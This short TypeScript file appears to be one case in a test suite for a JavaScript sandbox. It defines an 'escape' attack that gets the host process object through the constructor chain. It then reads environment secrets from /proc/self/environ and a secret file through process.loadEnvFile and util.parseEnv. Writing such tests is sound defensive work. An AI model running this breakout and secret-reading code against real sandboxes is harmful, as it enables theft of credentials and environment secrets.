import { attack } from '../attack.ts';

/** Environment files are read by a call that no one counts among those that read files. */
export const escape = attack({
	grants: [],
	source: `
		const host = reach();
		const process = host?.constructor.constructor('return process')();
		if (!process) return;
		const fs = process.getBuiltinModule('fs');
		const told = [];
		for (const path of ['/proc/self/environ', '/proc/thread-self/environ', \`/proc/\${process.ppid}/environ\`]) { try { process.loadEnvFile(path); told.push(process.env.GLOVEBOX_SECRET); } catch (error) { told.push(error.code); } }
		try { told.push(process.getBuiltinModule('util').parseEnv('A=' + fs.readFileSync(secretFile, 'utf8'))); } catch (error) { told.push(error.code); }
		return told;
	`,
});
